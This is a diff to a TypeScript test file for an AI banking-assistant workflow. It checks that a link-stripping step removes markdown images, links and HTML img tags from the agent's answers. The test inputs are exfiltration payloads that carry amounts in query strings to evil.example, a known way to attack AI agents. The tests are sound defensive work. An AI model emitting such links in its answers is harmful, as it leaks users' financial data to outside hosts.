@@ -75,6 +75,23 @@ const findLink = (words: unknown) =>
 			.replace(/[\p{M}\p{Cf}]/gu, ''),
 	);
 
+/** What the chat with the agent shows of an answer of the model. */
+function answer(output: string): string {
+	const code = readExample('ask-the-bank').parameter('Leave out links', 'jsCode');
+	const [item] = runCode(code, { input: [{ json: { output } }], nodes: {} });
+	return textOf(objectOf(item?.json, 'the answer').output, 'its text');
+}
+
+it.each([
+	['**Total:** EUR 1,001.40.\n\n| a | b |\n|:--|--:|\n1. _Rent_ (24.11.2026)', '='],
+	['Paid ![chart](https://evil.example/?cash=950000) today', 'Paid  today'],
+	['See [the invoice](https://evil.example/?cash=1) or https://evil.example', 'See the invoice or (link)'],
+	['![x][1]\n\n[1]: https://evil.example/?cash=1', '\n\n1'],
+	['<img src="https://evil.example/?cash=1">5 < 6', '5 ‹ 6'],
+])('the agent answers %j as %j', (output, shown) => {
+	expect(answer(output)).toBe(shown === '=' ? output : shown);
+});
+
 it.each(
 	[
 		'evil.com/pay bit.ly/x www.evil.com www1.1und1.de EVIL.COM:8080/x evil.com. e\u200dvil.\u200dcom evil.com\u2060/x',
@@ -89,7 +106,7 @@ it.each(
 	const { subject, text } = write([
 		{ title: 'From {name}', name: words, lines: [words, [words]], facts: { From: words } },
 	]);
-	expect([findLink(subject), findLink(text)]).toEqual([null, null]);
+	expect([subject, text, answer(words)].map(findLink)).toEqual([null, null, null]);
 });
 
 it('writes the amounts in lines and facts, and lists of parts', () => {
